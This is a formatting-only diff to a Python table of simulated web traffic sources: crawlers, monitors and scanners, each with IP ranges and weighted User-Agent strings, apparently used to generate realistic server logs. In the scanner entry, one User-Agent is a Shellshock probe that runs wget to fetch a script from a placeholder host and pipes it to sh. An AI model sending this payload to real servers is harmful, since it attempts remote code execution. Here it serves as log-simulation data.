@@ -57,100 +57,287 @@ class Operator:
 
 def _evergreen(template: str, majors: int = 4) -> tuple[tuple[str, float], ...]:
     """Evergreen crawlers follow stable Chrome; logs show the last few versions."""
-    return tuple((template.format(v=chrome_full_version(v, i + 3)), 0.6**i)
-                 for i, v in enumerate(CHROME_MAJORS[:majors]))
+    return tuple(
+        (template.format(v=chrome_full_version(v, i + 3)), 0.6**i)
+        for i, v in enumerate(CHROME_MAJORS[:majors])
+    )
 
 
 OPERATORS: tuple[Operator, ...] = (
     # The /20 is listed three times: addresses alternate over the list, and three in four
     # Googlebot addresses are IPv4.
-    Operator("Googlebot", "crawler", "bot", 0.34,
-             ("66.249.64.0/20", "66.249.64.0/20", "66.249.64.0/20", "2001:4860:4801::/48"), 48,
-             (*((ua, 0.6 * w) for ua, w in _evergreen(_GOOGLE_SMARTPHONE)),
-              *((ua, 0.3 * w) for ua, w in _evergreen(_GOOGLE_DESKTOP)),
-              ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.1),
-              ("Googlebot-Image/1.0", 0.15))),
-    Operator("bingbot", "crawler", "bot", 0.17,
-             ("40.77.167.0/24", "157.55.39.0/24", "207.46.13.0/24", "52.167.144.0/24"), 32,
-             (*((ua, 0.75 * w) for ua, w in _evergreen(_BING)),
-              *((ua, 0.25 * w) for ua, w in _evergreen(_BING_MOBILE)))),
-    Operator("AhrefsBot", "crawler", "bot", 0.1,
-             ("54.36.148.0/24", "54.36.149.0/24", "51.222.253.0/24"), 40,
-             (("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.0),)),
-    Operator("SemrushBot", "crawler", "bot", 0.07, ("185.191.171.0/24", "85.208.96.0/24"), 30,
-             (("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
-               1.0),)),
-    Operator("YandexBot", "crawler", "bot", 0.05,
-             ("5.255.231.0/24", "213.180.203.0/24", "87.250.224.0/24"), 16,
-             (("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.85),
-              ("Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", 0.15))),
-    Operator("Applebot", "crawler", "bot", 0.04,
-             ("17.241.219.0/24", "17.241.227.0/24", "17.22.237.0/24"), 12,
-             (("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, "
-               "like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
-               "+http://www.apple.com/go/applebot)", 1.0),)),
-    Operator("GPTBot", "crawler", "bot", 0.06, ("20.171.206.0/24", "52.230.152.0/24"), 20,
-             (("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
-               "+https://openai.com/gptbot)", 1.0),)),
-    Operator("ClaudeBot", "crawler", "bot", 0.03, ("216.73.216.0/22",), 12,
-             (("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
-               "+claudebot@anthropic.com)", 1.0),)),
-    Operator("Baiduspider", "crawler", "bot", 0.02, ("220.181.108.0/24", "116.179.32.0/24"), 16,
-             (("Mozilla/5.0 (compatible; Baiduspider/2.0; "
-               "+http://www.baidu.com/search/spider.html)", 1.0),)),
-    Operator("PetalBot", "crawler", "bot", 0.02, ("114.119.128.0/19",), 24,
-             (("Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) "
-               "Mobile Safari/537.36 (compatible; PetalBot;"
-               "+https://webmaster.petalsearch.com/site/petalbot)", 1.0),)),
-    Operator("DuckDuckBot", "crawler", "bot", 0.01,
-             ("20.191.45.212/32", "40.88.21.235/32", "40.76.173.151/32", "40.76.163.7/32"), 4,
-             (("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 1.0),)),
-    Operator("facebookexternalhit", "crawler", "bot", 0.03,
-             ("69.63.176.0/21", "173.252.64.0/19", "2a03:2880:f800::/48"), 30,
-             (("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
-               1.0),)),
-    Operator("Twitterbot", "crawler", "bot", 0.01, ("199.16.156.0/22",), 6,
-             (("Twitterbot/1.0", 1.0),)),
-    Operator("Bytespider", "crawler", "bot", 0.04, ("47.128.0.0/16",), 60,
-             (("Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
-               "Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
-               1.0),)),
+    Operator(
+        "Googlebot",
+        "crawler",
+        "bot",
+        0.34,
+        ("66.249.64.0/20", "66.249.64.0/20", "66.249.64.0/20", "2001:4860:4801::/48"),
+        48,
+        (
+            *((ua, 0.6 * w) for ua, w in _evergreen(_GOOGLE_SMARTPHONE)),
+            *((ua, 0.3 * w) for ua, w in _evergreen(_GOOGLE_DESKTOP)),
+            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.1),
+            ("Googlebot-Image/1.0", 0.15),
+        ),
+    ),
+    Operator(
+        "bingbot",
+        "crawler",
+        "bot",
+        0.17,
+        ("40.77.167.0/24", "157.55.39.0/24", "207.46.13.0/24", "52.167.144.0/24"),
+        32,
+        (
+            *((ua, 0.75 * w) for ua, w in _evergreen(_BING)),
+            *((ua, 0.25 * w) for ua, w in _evergreen(_BING_MOBILE)),
+        ),
+    ),
+    Operator(
+        "AhrefsBot",
+        "crawler",
+        "bot",
+        0.1,
+        ("54.36.148.0/24", "54.36.149.0/24", "51.222.253.0/24"),
+        40,
+        (("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.0),),
+    ),
+    Operator(
+        "SemrushBot",
+        "crawler",
+        "bot",
+        0.07,
+        ("185.191.171.0/24", "85.208.96.0/24"),
+        30,
+        (("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 1.0),),
+    ),
+    Operator(
+        "YandexBot",
+        "crawler",
+        "bot",
+        0.05,
+        ("5.255.231.0/24", "213.180.203.0/24", "87.250.224.0/24"),
+        16,
+        (
+            ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.85),
+            ("Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", 0.15),
+        ),
+    ),
+    Operator(
+        "Applebot",
+        "crawler",
+        "bot",
+        0.04,
+        ("17.241.219.0/24", "17.241.227.0/24", "17.22.237.0/24"),
+        12,
+        (
+            (
+                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, "
+                "like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
+                "+http://www.apple.com/go/applebot)",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "GPTBot",
+        "crawler",
+        "bot",
+        0.06,
+        ("20.171.206.0/24", "52.230.152.0/24"),
+        20,
+        (
+            (
+                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
+                "+https://openai.com/gptbot)",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "ClaudeBot",
+        "crawler",
+        "bot",
+        0.03,
+        ("216.73.216.0/22",),
+        12,
+        (
+            (
+                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
+                "+claudebot@anthropic.com)",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "Baiduspider",
+        "crawler",
+        "bot",
+        0.02,
+        ("220.181.108.0/24", "116.179.32.0/24"),
+        16,
+        (
+            (
+                "Mozilla/5.0 (compatible; Baiduspider/2.0; "
+                "+http://www.baidu.com/search/spider.html)",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "PetalBot",
+        "crawler",
+        "bot",
+        0.02,
+        ("114.119.128.0/19",),
+        24,
+        (
+            (
+                "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Mobile Safari/537.36 (compatible; PetalBot;"
+                "+https://webmaster.petalsearch.com/site/petalbot)",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "DuckDuckBot",
+        "crawler",
+        "bot",
+        0.01,
+        ("20.191.45.212/32", "40.88.21.235/32", "40.76.173.151/32", "40.76.163.7/32"),
+        4,
+        (("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 1.0),),
+    ),
+    Operator(
+        "facebookexternalhit",
+        "crawler",
+        "bot",
+        0.03,
+        ("69.63.176.0/21", "173.252.64.0/19", "2a03:2880:f800::/48"),
+        30,
+        (("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 1.0),),
+    ),
+    Operator(
+        "Twitterbot", "crawler", "bot", 0.01, ("199.16.156.0/22",), 6, (("Twitterbot/1.0", 1.0),)
+    ),
+    Operator(
+        "Bytespider",
+        "crawler",
+        "bot",
+        0.04,
+        ("47.128.0.0/16",),
+        60,
+        (
+            (
+                "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
+                1.0,
+            ),
+        ),
+    ),
     # Monitors: steady, cheap requests every few seconds, all day.
-    Operator("UptimeRobot", "monitor", "bot", 0.35, ("69.162.124.224/28", "216.144.250.0/24"), 8,
-             (("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 1.0),)),
-    Operator("Pingdom", "monitor", "bot", 0.15, ("5.172.196.0/24", "185.180.12.0/24"), 6,
-             (("Pingdom.com_bot_version_1.6_(http://www.pingdom.com/)", 1.0),)),
+    Operator(
+        "UptimeRobot",
+        "monitor",
+        "bot",
+        0.35,
+        ("69.162.124.224/28", "216.144.250.0/24"),
+        8,
+        (("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 1.0),),
+    ),
+    Operator(
+        "Pingdom",
+        "monitor",
+        "bot",
+        0.15,
+        ("5.172.196.0/24", "185.180.12.0/24"),
+        6,
+        (("Pingdom.com_bot_version_1.6_(http://www.pingdom.com/)", 1.0),),
+    ),
     # The load balancer's health checks arrive from its private addresses.
-    Operator("ELB", "monitor", "other", 0.5, ("10.0.1.0/24", "10.0.2.0/24"), 4,
-             (("ELB-HealthChecker/2.0", 1.0),)),
+    Operator(
+        "ELB",
+        "monitor",
+        "other",
+        0.5,
+        ("10.0.1.0/24", "10.0.2.0/24"),
+        4,
+        (("ELB-HealthChecker/2.0", 1.0),),
+    ),
     # Scanners: many addresses, a few requests each.
-    Operator("Censys", "scanner", "bot", 0.15,
-             ("167.94.138.0/24", "167.94.145.0/24", "206.168.34.0/24"), 120,
-             (("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 1.0),)),
-    Operator("Expanse", "scanner", "bot", 0.1, ("205.210.31.0/24", "198.235.24.0/24"), 80,
-             (("Expanse, a Palo Alto Networks company, searches across the global IPv4 space "
-               "multiple times per day to identify customers&#39; presences on the Internet. If "
-               "you would like to be excluded from our scans, please contact us at: "
-               "scaninfo@paloaltonetworks.com", 1.0),)),
-    Operator("scanner", "scanner", "other", 0.75,
-             ("45.148.10.0/24", "185.224.128.0/24", "193.41.206.0/24", "167.99.0.0/16",
-              "159.65.0.0/16", "134.209.0.0/16", "2a03:b0c0:3::/48", "92.118.39.0/24"), 1500,
-             (("-", 0.2),  # no User-Agent header at all
-              ("curl/8.5.0", 0.08), ("curl/7.88.1", 0.06), ("python-requests/2.32.3", 0.1),
-              ("python-requests/2.31.0", 0.05), ("Go-http-client/1.1", 0.12),
-              ("Mozilla/5.0 zgrab/0.x", 0.1), ("Wget/1.21.4", 0.02),
-              ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-               "Chrome/81.0.4044.129 Safari/537.36", 0.1),
-              ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
-               "Chrome/74.0.3729.169 Safari/537.36", 0.05),
-              # Shellshock probes put shell code (with quotes) in the UA: nginx escapes it.
-              ('() { :; }; /bin/bash -c "wget -qO- http://198.51.100.66/sh | sh"', 0.01),
-              ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
-               0.03),
-              ("Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)", 0.03),
-              ("Hello World", 0.02), ("xfa1,nvdorz,nvd0rz", 0.01),
-              ("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0\t",
-               0.01))),
+    Operator(
+        "Censys",
+        "scanner",
+        "bot",
+        0.15,
+        ("167.94.138.0/24", "167.94.145.0/24", "206.168.34.0/24"),
+        120,
+        (("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", 1.0),),
+    ),
+    Operator(
+        "Expanse",
+        "scanner",
+        "bot",
+        0.1,
+        ("205.210.31.0/24", "198.235.24.0/24"),
+        80,
+        (
+            (
+                "Expanse, a Palo Alto Networks company, searches across the global IPv4 space "
+                "multiple times per day to identify customers&#39; presences on the Internet. If "
+                "you would like to be excluded from our scans, please contact us at: "
+                "scaninfo@paloaltonetworks.com",
+                1.0,
+            ),
+        ),
+    ),
+    Operator(
+        "scanner",
+        "scanner",
+        "other",
+        0.75,
+        (
+            "45.148.10.0/24",
+            "185.224.128.0/24",
+            "193.41.206.0/24",
+            "167.99.0.0/16",
+            "159.65.0.0/16",
+            "134.209.0.0/16",
+            "2a03:b0c0:3::/48",
+            "92.118.39.0/24",
+        ),
+        1500,
+        (
+            ("-", 0.2),  # no User-Agent header at all
+            ("curl/8.5.0", 0.08),
+            ("curl/7.88.1", 0.06),
+            ("python-requests/2.32.3", 0.1),
+            ("python-requests/2.31.0", 0.05),
+            ("Go-http-client/1.1", 0.12),
+            ("Mozilla/5.0 zgrab/0.x", 0.1),
+            ("Wget/1.21.4", 0.02),
+            (
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Chrome/81.0.4044.129 Safari/537.36",
+                0.1,
+            ),
+            (
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                "Chrome/74.0.3729.169 Safari/537.36",
+                0.05,
+            ),
+            # Shellshock probes put shell code (with quotes) in the UA: nginx escapes it.
+            ('() { :; }; /bin/bash -c "wget -qO- http://198.51.100.66/sh | sh"', 0.01),
+            (
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+                0.03,
+            ),
+            ("Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)", 0.03),
+            ("Hello World", 0.02),
+            ("xfa1,nvdorz,nvd0rz", 0.01),
+            ("Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0\t", 0.01),
+        ),
+    ),
 )
 
 
